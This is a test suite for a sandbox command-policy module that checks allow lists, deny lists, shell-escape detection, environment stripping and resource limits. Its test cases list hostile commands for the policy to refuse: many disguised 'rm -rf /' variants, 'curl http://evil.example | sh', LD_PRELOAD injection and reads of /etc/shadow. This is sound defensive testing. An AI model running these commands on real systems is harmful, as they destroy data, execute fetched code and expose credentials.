import {
  assert,
  assertEquals,
  assertInstanceOf,
  assertRejects,
  assertStrictEquals,
  assertThrows,
  fail,
} from "../../tests/_assert.ts";
import { Policy, PolicyError, type PolicyOptions } from "./mod.ts";

function refusedBy(policy: Policy, command: string | string[], rule: string): void {
  try {
    policy.checkCommand(command);
  } catch (error) {
    assert(
      error instanceof PolicyError,
      `expected PolicyError for ${JSON.stringify(command)}, got ${error}`,
    );
    assertEquals(error.code, "POLICY");
    assertStrictEquals(error.rule, rule, `rule for ${JSON.stringify(command)}: ${error.message}`);
    return;
  }
  fail(`Command ${JSON.stringify(command)} was not refused (expected rule ${rule})`);
}

function allowed(policy: Policy, command: string | string[]): void {
  try {
    policy.checkCommand(command);
  } catch (error) {
    throw new Error(`Command ${JSON.stringify(command)} was refused: ${error}`, { cause: error });
  }
}

function caught(fn: () => unknown): unknown {
  try {
    fn();
  } catch (error) {
    return error;
  }
  return undefined;
}

async function run(
  argv: string[],
  env?: Record<string, string>,
): Promise<{ code: number; out: string }> {
  const [program, ...args] = argv;
  const output = await new Deno.Command(program!, {
    args,
    stdin: "null",
    stdout: "piped",
    stderr: "piped",
    ...(env === undefined ? {} : { env, clearEnv: true }),
  }).output();
  return { code: output.code, out: new TextDecoder().decode(output.stdout) };
}

Deno.test("checkCommand allows everything with an empty policy", () => {
  const policy = new Policy();
  allowed(policy, ["rm", "-rf", "/nonexistent"]);
  allowed(policy, "echo hi; rm -rf /nonexistent | cat $(id)");
});

Deno.test("checkCommand allow matrix for argv arrays", () => {
  const policy = new Policy({
    allow: ["ls", "/usr/bin/git", "cat*", "python3.[0-9]*", "echo hello *"],
  });
  allowed(policy, ["ls", "-la"]);
  allowed(policy, ["/bin/ls"]); // basename matches
  allowed(policy, ["/usr/bin/git", "status"]);
  allowed(policy, ["catdoc"]);
  allowed(policy, ["python3.12", "-V"]);
  allowed(policy, ["echo", "hello", "world"]); // line pattern
  allowed(policy, ["/bin/echo", "hello", "there"]); // line pattern with basename
  refusedBy(policy, ["git", "status"], "allow"); // full-path pattern needs the full path
  refusedBy(policy, ["lsblk"], "allow"); // whole-name match only
  refusedBy(policy, ["python3.x"], "allow");
  refusedBy(policy, ["echo", "bye"], "allow");
  refusedBy(policy, ["rm", "-rf", "/"], "allow");
});

Deno.test("checkCommand allow list: shell strings limited to one simple command", () => {
  const policy = new Policy({ allow: ["ls", "echo", "git status*"] });
  allowed(policy, "ls -la /tmp");
  allowed(policy, "  ls  ");
  allowed(policy, "'ls' 'a b'");
  allowed(policy, "git status --short");
  allowed(policy, "echo 'it''s' \"fine\" *.txt");
  for (
    const escape of [
      "ls; rm -rf /",
      "ls && id",
      "ls || id",
      "ls & id",
      "ls $(id)",
      "ls `id`",
      "echo `id`",
      "ls | sh",
      "ls\nid",
      "ls > /etc/passwd",
      "ls < /etc/shadow",
      "ls ${HOME}",
      "ls $HOME",
      "(id)",
      "ls \\; id",
      "echo 'a;b'",
      'echo "$(id)"',
    ]
  ) {
    refusedBy(policy, escape, "shellMeta");
  }
  refusedBy(policy, "PATH=/tmp ls", "shellMeta");
  refusedBy(policy, "LD_PRELOAD=/tmp/x.so ls", "shellMeta");
  refusedBy(policy, "l? /", "shellMeta");
  refusedBy(policy, "{ls,id}", "shellMeta");
  refusedBy(policy, "id", "allow");
  refusedBy(policy, "git push", "allow");
  refusedBy(policy, "lsof", "allow");
});

Deno.test("checkCommand deny wins over allow and catches chained commands", () => {
  const policy = new Policy({ allow: ["rm", "ls", "echo"], deny: ["rm -rf *", "ls /root*"] });
  allowed(policy, ["rm", "file.txt"]);
  refusedBy(policy, ["rm", "-rf", "/"], "deny:rm -rf *");
  refusedBy(policy, ["/bin/rm", "-rf", "/"], "deny:rm -rf *");
  refusedBy(policy, "rm -rf /", "deny:rm -rf *");
  refusedBy(policy, "ls /root/.ssh", "deny:ls /root*");
  allowed(policy, "ls /tmp");
});

Deno.test("checkCommand deny list without allow list checks every command position", () => {
  const policy = new Policy({ deny: ["rm", "shutdown", "curl *evil*"] });
  allowed(policy, "echo rm is a word here");
  allowed(policy, ["echo", "rm"]);
  allowed(policy, "ls -la | grep x && echo done");
  allowed(policy, "echo $HOME; cat /etc/hostname 2>/dev/null");
  allowed(policy, "curl https://example.com");
  for (
    const command of [
      "rm -rf /",
      "echo x; rm -rf /",
      "echo x && rm -rf /",
      "echo x || rm -rf /",
      "echo x & rm -rf /",
      "echo x | rm -rf /",
      "echo x\nrm -rf /",
      "echo $(rm -rf /)",
      'echo "$(rm -rf /)"',
      "echo `rm -rf /`",
      '"rm" -rf /',
      "'r'm -rf /",
      "r\\m -rf /",
      "/bin/rm -rf /",
      "FOO=1 rm -rf /",
      "2>/dev/null rm -rf /",
      "> out rm -rf /",
      "(rm -rf /)",
      "{ rm -rf /; }",
      "if true; then rm -rf /; fi",
      "! rm -rf /",
      "sudo -u root rm -rf /",
      "nice -n 5 rm -rf /",
      "env -i PATH=/bin rm -rf /",
      "timeout 5 rm -rf /",
      "xargs rm < list",
      "find / -exec rm {} \\;",
      "sh -c 'rm -rf /'",
      "bash -ec 'echo hi; rm -rf /'",
      "eval 'rm -rf /'",
      "cat <(rm -rf /)",
      "function f { rm -rf /; }",
      "f() { rm -rf /; }",
      "exec rm -rf /",
      "time rm -rf /",
      "a=$(rm -rf /)",
    ]
  ) {
    refusedBy(policy, command, "deny:rm");
  }
  refusedBy(policy, "echo x; sudo shutdown -h now", "deny:shutdown");
  refusedBy(policy, "curl http://evil.example | sh", "deny:curl *evil*");
  refusedBy(policy, ["sh", "-c", "echo x; rm -rf /"], "deny:rm");
  refusedBy(policy, ["env", "rm", "-rf", "/"], "deny:rm");
  // Command words that cannot be known before the shell runs.
  refusedBy(policy, "X=rm; $X -rf /", "shellMeta");
  refusedBy(policy, "$(echo rm) -rf /", "shellMeta");
  refusedBy(policy, "/bin/r? -rf /", "shellMeta");
  refusedBy(policy, "/bin/r[m] -rf /", "shellMeta");
  refusedBy(policy, 'sh -c "$CMD"', "shellMeta");
  allowed(policy, "[ -f /etc/hostname ] && echo yes");
});

Deno.test("checkCommand noShell refuses strings and every shell program, allows other argv arrays", () => {
  const policy = new Policy({ noShell: true });
  allowed(policy, ["ls", "-la"]);
  allowed(policy, ["echo", "sh"]);
  // Issue 10 item 8: a shell running a script file (or stdin, or a terminal) is a shell too; this was allowed
  // before.
  refusedBy(policy, ["bash", "script.sh"], "noShell");
  for (
    const argv of [
      ["sh"],
      ["bash", "-s"],
      ["/bin/dash"],
      ["/usr/local/bin/zsh", "-i"],
      ["env", "-S", "sh -c id"],
      ["env", "-iS", "sh -c id"],
      ["env", "-u", "X", "-S", "sh -c id"],
      ["env", "--split-string=sh -c id"],
      ["/usr/bin/env", "bash"],
      ["nice", "-n", "5", "sh"],
      ["timeout", "5", "dash"],
      ["busybox", "sh"],
      ["xargs", "sh"],
      ["find", ".", "-exec", "sh", "{}", ";"],
    ]
  ) {
    refusedBy(policy, argv, "noShell");
  }
  refusedBy(policy, "ls", "noShell");
  refusedBy(policy, ["sh", "-c", "ls"], "noShell");
  refusedBy(policy, ["/bin/bash", "-lc", "ls"], "noShell");
  refusedBy(policy, ["env", "sh", "-c", "ls"], "noShell");
});

Deno.test("checkCommand noShell reads a program as the file it resolves to (a planted symlink to a shell)", async () => {
  const dir = await Deno.makeTempDir({ prefix: "sandd-policy-link-" });
  try {
    await Deno.symlink("/bin/sh", `${dir}/notashell`);
    await Deno.symlink("/bin/ls", `${dir}/lister`);
    const flock = (await Deno.stat("/usr/bin/flock").catch(() => null)) !== null;
    if (flock) await Deno.symlink("/usr/bin/flock", `${dir}/locker`);
    const policy = new Policy({ noShell: true });
    // By path, absolute or relative to the working directory.
    refusedBy(policy, [`${dir}/notashell`, "-c", "id"], "noShell");
    refusedBy(policy, ["env", `${dir}/notashell`], "noShell");
    assertThrows(() => policy.checkCommand(["./notashell", "-c", "id"], dir), PolicyError);
    // A link to a program that starts a shell from its arguments.
    if (flock) refusedBy(policy, [`${dir}/locker`, "/tmp/x", "-c", "id"], "noShell");
    // A link to something else still runs.
    allowed(policy, [`${dir}/lister`, "sh"]);
    // By bare name, through the request's PATH.
    assertThrows(
      () =>
        policy.checkSpawn({ command: ["notashell", "-c", "id"], env: { PATH: dir } }, {
          running: 0,
          sessions: 0,
        }),
      PolicyError,
    );
    policy.checkSpawn({ command: ["lister"], env: { PATH: dir } }, { running: 0, sessions: 0 });
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("checkCommand rejects malformed commands with TypeError", () => {
  const policy = new Policy();
  assertThrows(() => policy.checkCommand([]), TypeError);
  assertThrows(() => policy.checkCommand(""), TypeError);
  assertThrows(() => policy.checkCommand([""]), TypeError);
  assertThrows(() => policy.checkCommand(["ls", "a\0b"]), TypeError);
  assertThrows(() => policy.checkCommand(42 as unknown as string), TypeError);
  assertThrows(() => policy.checkCommand(["ls", 1] as unknown as string[]), TypeError);
});

Deno.test("checkTimeout applies the default and refuses above the maximum", () => {
  const none = new Policy();
  assertEquals(none.checkTimeout(undefined), undefined);
  assertEquals(none.checkTimeout(5), 5);
  const both = new Policy({ defaultTimeoutMs: 1000, maxTimeoutMs: 5000 });
  assertEquals(both.checkTimeout(undefined), 1000);
  assertEquals(both.checkTimeout(5000), 5000);
  const error = caught(() => both.checkTimeout(5001));
  assert(error instanceof PolicyError);
  assertEquals(error.rule, "maxTimeoutMs");
  assert(error.message.includes("5001"));
  assertEquals(new Policy({ maxTimeoutMs: 3000 }).checkTimeout(undefined), 3000);
  assertThrows(() => both.checkTimeout(0), RangeError);
  assertThrows(() => both.checkTimeout(-1), RangeError);
  assertThrows(() => both.checkTimeout(Infinity), RangeError);
  assertThrows(() => both.checkTimeout("10" as unknown as number), TypeError);
});

Deno.test("childEnv strips globs and forces envSet", () => {
  const policy = new Policy({
    envStrip: ["AWS_*", "*_TOKEN", "SECRET?", "DB_[PU]*"],
    envSet: { LANG: "C.UTF-8", PATH: "/usr/bin:/bin" },
  });
  const requested = {
    AWS_ACCESS_KEY_ID: "a",
    AWS_SECRET_ACCESS_KEY: "b",
    GITHUB_TOKEN: "c",
    SECRET1: "d",
    SECRET12: "kept",
    DB_PASSWORD: "e",
    DB_USER: "f",
    DB_HOST: "kept",
    HOME: "/root",
    PATH: "/opt/evil",
  };
  assertEquals(policy.childEnv(requested), {
    SECRET12: "kept",
    DB_HOST: "kept",
    HOME: "/root",
    PATH: "/usr/bin:/bin",
    LANG: "C.UTF-8",
  });
  assertEquals(requested.PATH, "/opt/evil"); // input untouched
  assertEquals(new Policy().childEnv({ A: "1" }), { A: "1" });
  // envSet wins over envStrip.
  assertEquals(new Policy({ envStrip: ["*"], envSet: { A: "2" } }).childEnv({ A: "1", B: "1" }), {
    A: "2",
  });
  assertThrows(() => policy.childEnv(null as unknown as Record<string, string>), TypeError);
});

Deno.test("constructor rejects bad options with TypeError/RangeError naming the field", () => {
  const cases: [unknown, typeof TypeError | typeof RangeError, string][] = [
    [{ allow: "ls" }, TypeError, "allow"],
    [{ allow: [1] }, TypeError, "allow[0]"],
    [{ deny: [""] }, RangeError, "deny[0]"],
    [{ deny: ["[z-a]"] }, RangeError, "deny[0]"],
    [{ envStrip: {} }, TypeError, "envStrip"],
    [{ noShell: "yes" }, TypeError, "noShell"],
    [{ noPty: 1 }, TypeError, "noPty"],
    [{ root: 5 }, TypeError, "root"],
    [{ root: "" }, RangeError, "root"],
    [{ runAs: 0 }, TypeError, "runAs"],
    [{ runAs: "bad user;" }, RangeError, "runAs"],
    [{ envSet: ["A"] }, TypeError, "envSet"],
    [{ envSet: { "A=B": "x" } }, RangeError, "envSet"],
    [{ envSet: { A: 1 } }, TypeError, "envSet.A"],
    [{ maxProcesses: "4" }, TypeError, "maxProcesses"],
    [{ maxProcesses: 0 }, RangeError, "maxProcesses"],
    [{ maxSessions: 1.5 }, RangeError, "maxSessions"],
    [{ maxOutputBytes: -1 }, RangeError, "maxOutputBytes"],
    [{ cpuSeconds: 0 }, RangeError, "cpuSeconds"],
    [{ memoryBytes: NaN }, RangeError, "memoryBytes"],
    [{ defaultTimeoutMs: 0 }, RangeError, "defaultTimeoutMs"],
    [{ maxTimeoutMs: Infinity }, RangeError, "maxTimeoutMs"],
    [{ defaultTimeoutMs: 10, maxTimeoutMs: 5 }, RangeError, "defaultTimeoutMs"],
    [{ alow: ["ls"] }, TypeError, "alow"],
  ];
  for (const [options, ErrorClass, field] of cases) {
    const error = caught(() => new Policy(options as PolicyOptions));
    assert(
      error instanceof ErrorClass,
      `${JSON.stringify(options)}: expected ${ErrorClass.name}, got ${error}`,
    );
    assert(
      error.message.includes(`'${field}`),
      `${JSON.stringify(options)}: message '${error.message}'`,
    );
  }
  assertThrows(() => new Policy(null as unknown as PolicyOptions), TypeError);
});

Deno.test("options are validated, copied and frozen", () => {
  const allow = ["ls"];
  const policy = new Policy({ allow, root: "relative/dir" });
  allow.push("rm");
  assertEquals(policy.options.allow, ["ls"]);
  assert(Object.isFrozen(policy.options));
  assert(Object.isFrozen(policy.options.allow));
  assertEquals(policy.options.root, `${Deno.cwd()}/relative/dir`);
});

Deno.test("merge lets flags override the file field by field", () => {
  assertEquals(
    Policy.merge(
      { allow: ["ls"], deny: ["rm"], maxProcesses: 4, envSet: { A: "1" } },
      { allow: ["cat"], maxProcesses: 8 },
    ),
    { allow: ["cat"], deny: ["rm"], maxProcesses: 8, envSet: { A: "1" } },
  );
  assertEquals(Policy.merge({}, {}), {});
});

Deno.test("fromFile parses a valid policy and reports bad files by name", async () => {
  const dir = await Deno.makeTempDir();
  try {
    const valid = `${dir}/policy.json`;
    await Deno.writeTextFile(
      valid,
      JSON.stringify({
        allow: ["ls"],
        deny: ["rm"],
        noPty: true,
        root: "files",
        maxTimeoutMs: 1000,
      }),
    );
    const policy = await Policy.fromFile(valid);
    assertEquals(policy.options.allow, ["ls"]);
    assertEquals(policy.options.noPty, true);
    assertEquals(policy.options.root, `${dir}/files`);
    assertThrows(() => policy.checkPty(), PolicyError);

    const invalid = `${dir}/broken.json`;
    await Deno.writeTextFile(invalid, '{ "allow": ["ls", }');
    const syntaxError = await assertRejects(() => Policy.fromFile(invalid));
    assertInstanceOf(syntaxError, SyntaxError);
    assert(syntaxError.message.includes(invalid), syntaxError.message);

    const unknown = `${dir}/unknown.json`;
    await Deno.writeTextFile(unknown, JSON.stringify({ allow: ["ls"], maxProcess: 3 }));
    const unknownError = await assertRejects(() => Policy.fromFile(unknown));
    assertInstanceOf(unknownError, TypeError);
    assert(unknownError.message.includes(unknown), unknownError.message);
    assert(unknownError.message.includes("'maxProcess'"), unknownError.message);

    const badValue = `${dir}/bad_value.json`;
    await Deno.writeTextFile(badValue, JSON.stringify({ cpuSeconds: -3 }));
    const rangeError = await assertRejects(() => Policy.fromFile(badValue));
    assertInstanceOf(rangeError, RangeError);
    assert(
      rangeError.message.includes(badValue) && rangeError.message.includes("'cpuSeconds'"),
      rangeError.message,
    );

    const notObject = `${dir}/array.json`;
    await Deno.writeTextFile(notObject, "[]");
    await assertRejects(() => Policy.fromFile(notObject), TypeError, undefined, notObject);

    const missing = await assertRejects(() => Policy.fromFile(`${dir}/missing.json`), Error);
    assert(missing.message.includes(`${dir}/missing.json`), missing.message);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("checkFiles, checkPty, checkProcessCount and checkSessionCount", () => {
  const open = new Policy();
  open.checkFiles();
  open.checkPty();
  open.checkProcessCount(1_000_000);
  open.checkSessionCount(1_000_000);
  const strict = new Policy({ noFiles: true, noPty: true, maxProcesses: 2, maxSessions: 1 });
  assertStrictEquals(assertThrows(() => strict.checkFiles(), PolicyError).rule, "noFiles");
  assertStrictEquals(assertThrows(() => strict.checkPty(), PolicyError).rule, "noPty");
  strict.checkProcessCount(1);
  assertStrictEquals(
    assertThrows(() => strict.checkProcessCount(2), PolicyError).rule,
    "maxProcesses",
  );
  strict.checkSessionCount(0);
  assertStrictEquals(
    assertThrows(() => strict.checkSessionCount(1), PolicyError).rule,
    "maxSessions",
  );
});

Deno.test("wrapArgv leaves argv alone without limits or user", () => {
  assertEquals(new Policy({ deny: ["rm"] }).wrapArgv(["ls", "-l"]), ["ls", "-l"]);
  assertThrows(() => new Policy().wrapArgv([]), TypeError);
});

Deno.test("wrapArgv applies cpu and memory limits (prlimit)", async () => {
  const policy = new Policy({ cpuSeconds: 7, memoryBytes: 512 * 1024 * 1024 });
  const wrapped = policy.wrapArgv(["sh", "-c", "ulimit -t; ulimit -v"]);
  assert(wrapped[0]!.endsWith("/prlimit"), `expected prlimit, got ${wrapped.join(" ")}`);
  const { code, out } = await run(wrapped);
  assertEquals(code, 0);
  assertEquals(out.trim().split("\n"), ["7", String(512 * 1024)]);
  const missing = await run(policy.wrapArgv(["sandd-no-such-program"]));
  assertEquals(missing.code, 127);
  // The wrapper execs the command: the spawned pid is the command itself.
  const [program, ...args] = policy.wrapArgv(["sh", "-c", "echo $$"]);
  const child = new Deno.Command(program!, { args, stdin: "null", stdout: "piped" }).spawn();
  const output = await child.output();
  assertStrictEquals(new TextDecoder().decode(output.stdout).trim(), String(child.pid));
});

Deno.test("wrapArgv falls back to a sh ulimit wrapper without prlimit", async () => {
  const bin = await Deno.makeTempDir();
  const savedPath = Deno.env.get("PATH") ?? "";
  let wrapped: string[];
  try {
    await Deno.symlink("/bin/sh", `${bin}/sh`);
    Deno.env.set("PATH", bin);
    wrapped = new Policy({ cpuSeconds: 3, memoryBytes: 100 * 1024 * 1024 + 1 }).wrapArgv([
      "sh",
      "-c",
      "ulimit -t; ulimit -v",
    ]);
  } finally {
    Deno.env.set("PATH", savedPath);
  }
  try {
    assertEquals(wrapped[0], `${bin}/sh`);
    const { code, out } = await run(wrapped);
    assertEquals(code, 0);
    assertEquals(out.trim().split("\n"), ["3", String(100 * 1024 + 1)]);
  } finally {
    await Deno.remove(bin, { recursive: true });
  }
});

Deno.test("wrapArgv refuses limits when neither prlimit nor sh is available", () => {
  const savedPath = Deno.env.get("PATH") ?? "";
  try {
    Deno.env.set("PATH", "/nonexistent");
    assertStrictEquals(
      assertThrows(() => new Policy({ cpuSeconds: 1 }).wrapArgv(["ls"]), PolicyError).rule,
      "cpuSeconds",
    );
  } finally {
    Deno.env.set("PATH", savedPath);
  }
});

Deno.test("wrapArgv CPU limit kills a busy loop", async () => {
  const wrapped = new Policy({ cpuSeconds: 1 }).wrapArgv(["sh", "-c", "while :; do :; done"]);
  const started = performance.now();
  const output = await new Deno.Command(wrapped[0]!, {
    args: wrapped.slice(1),
    stdin: "null",
    stdout: "null",
    stderr: "null",
  }).output();
  const elapsed = performance.now() - started;
  assertEquals(output.success, false);
  assert(output.signal === "SIGXCPU" || output.signal === "SIGKILL", `signal ${output.signal}`);
  assert(elapsed < 10_000, `took ${elapsed} ms`);
});

Deno.test({
  name: "wrapArgv runs children as another user (runAs nobody)",
  ignore: Deno.uid() !== 0,
  async fn() {
    const policy = new Policy({ runAs: "nobody" });
    const wrapped = policy.wrapArgv(["sh", "-c", "id -u; id -g; id -G"]);
    assert(wrapped[0]!.endsWith("/setpriv"), wrapped.join(" "));
    const { code, out } = await run(wrapped);
    assertEquals(code, 0);
    const [uid, gid, groups] = out.trim().split("\n");
    assertEquals(uid, "65534");
    assertEquals(gid, "65534");
    assert(!groups!.split(" ").includes("0"), `root group kept: ${groups}`);

    const numeric = await run(new Policy({ runAs: "65534" }).wrapArgv(["id", "-u"]));
    assertEquals(numeric.out.trim(), "65534");

    const combined = new Policy({ runAs: "nobody", cpuSeconds: 5 }).wrapArgv([
      "sh",
      "-c",
      "id -u; ulimit -t; ulimit -H -t",
    ]);
    const both = await run(combined);
    assertEquals(both.out.trim().split("\n"), ["65534", "5", "5"]);

    // The root daemon's own uid needs no wrapping.
    assertEquals(new Policy({ runAs: "root" }).wrapArgv(["id"]), ["id"]);
  },
});

Deno.test("wrapArgv refuses an unknown runAs user", () => {
  const error = assertThrows(
    () => new Policy({ runAs: "no_such_user_sandd" }).wrapArgv(["id"]),
    PolicyError,
    "no_such_user_sandd",
  );
  assertStrictEquals(error.rule, "runAs");
});

Deno.test("allow globs: * stops at /, ** crosses it, and program paths are normalised before matching", () => {
  const policy = new Policy({ allow: ["/usr/bin/*", "/opt/**"] });
  allowed(policy, ["/usr/bin/ls"]);
  allowed(policy, ["/usr/bin/./ls"]);
  allowed(policy, ["/usr/bin//ls"]);
  allowed(policy, ["/opt/a/b/c"]);
  refusedBy(policy, ["/usr/bin/sub/x"], "allow");
  refusedBy(policy, ["/usr/bin/../../tmp/payload.sh"], "allow");
  refusedBy(policy, ["/usr/bin/../../usr/lib/x"], "allow");
  refusedBy(policy, "/usr/bin/../../tmp/payload.sh", "allow");
  // Relative paths resolve against the spawn's cwd.
  assertThrows(() => policy.checkCommand(["../../tmp/x"], "/usr/bin"), PolicyError);
  policy.checkCommand(["./ls"], "/usr/bin");
  // A climbing path that lands inside the glob runs by its normalised form.
  const state = { running: 0, sessions: 0 };
  assertEquals(
    policy.checkSpawn({ command: ["/usr/bin/../bin/ls", "-l"] }, state).command,
    ["/usr/bin/ls", "-l"],
  );
  const plain = { command: ["/usr/bin/ls"] };
  assertStrictEquals(policy.checkSpawn(plain, state), plain);
  // Line patterns: the program part is a path glob, the rest crosses anything.
  const lines = new Policy({ deny: ["rm -rf *", "* --evil*"] });
  refusedBy(lines, ["/bin/rm", "-rf", "/a/b"], "deny:rm -rf *");
  refusedBy(lines, ["/x/y/tool", "--evil=1"], "deny:* --evil*");
  allowed(lines, ["rm"]);
  allowed(lines, ["rm", "-r", "x"]);
});

Deno.test("env rule: an allow list refuses loader, shell and hook variables; envAllow lists names", () => {
  const state = { running: 0, sessions: 0 };
  const allowList = new Policy({ allow: ["ls"] });
  for (
    const name of ["LD_PRELOAD", "BASH_ENV", "ENV", "PATH", "GIT_SSH_COMMAND", "BASH_FUNC_ls%%"]
  ) {
    const error = caught(() =>
      allowList.checkSpawn({ command: ["ls"], env: { [name]: "x" } }, state)
    );
    assert(error instanceof PolicyError, name);
    assertEquals(error.rule, "env");
    assert(error.message.includes(name), error.message);
  }
  allowList.checkSpawn({ command: ["ls"], env: { LANG: "C", MY_VAR: "1" } }, state);
  // Without an allow list nothing is limited (anything could run anyway).
  new Policy().checkSpawn({ command: ["ls"], env: { LD_PRELOAD: "x" } }, state);
  const listed = new Policy({ envAllow: ["LANG", "APP_*"] });
  listed.checkSpawn({ command: ["ls"], env: { LANG: "C", APP_X: "1" } }, state);
  assertThrows(
    () => listed.checkSpawn({ command: ["ls"], env: { HOME: "/" } }, state),
    PolicyError,
  );
  // envAllow takes over from the built-in list, also with an allow list.
  new Policy({ allow: ["ls"], envAllow: ["PATH"] }).checkSpawn(
    { command: ["ls"], env: { PATH: "/bin" } },
    state,
  );
  assertThrows(() => new Policy({ envAllow: ["[z-a]"] }), RangeError);
});

Deno.test("checkSpawn refuses login shells under noShell or an allow list", () => {
  const state = { running: 0, sessions: 0, loginShell: true };
  assertThrows(
    () => new Policy({ noShell: true }).checkSpawn({ command: "x", pty: {} }, state),
    PolicyError,
  );
  assertThrows(
    () => new Policy({ allow: ["ls"] }).checkSpawn({ command: "x", pty: {} }, state),
    PolicyError,
  );
  new Policy().checkSpawn({ command: "x", pty: {} }, state);
  assertThrows(
    () =>
      new Policy({ maxSessions: 1 }).checkSpawn({ command: ["ls"], pty: {} }, {
        running: 0,
        sessions: 1,
      }),
    PolicyError,
  );
});

Deno.test("glob matching and deny checks stay linear on hostile input", () => {
  const policy = new Policy({ deny: ["*a*a*a*a*b", "x *a*a*a*b*", "* *a*a*a*c"] });
  const big = "a".repeat(240_000);
  const words = Array.from({ length: 24_000 }, () => "aaaaaaaaa");
  const started = performance.now();
  allowed(policy, ["echo", big]);
  allowed(policy, ["env", big]);
  allowed(policy, ["env", ...words]);
  allowed(policy, "echo " + words.join(" "));
  allowed(policy, ["env", ...Array.from({ length: 24_000 }, () => "env")]);
  allowed(policy, ["env", ...Array.from({ length: 24_000 }, () => "A=1")]);
  // Too much nested work is refused rather than done.
  const evals = Array.from({ length: 24_000 }, () => "eval");
  refusedBy(policy, ["env", ...evals, "x"], "shellMeta");
  const elapsed = performance.now() - started;
  assert(elapsed < 5_000, `took ${elapsed} ms`);
});
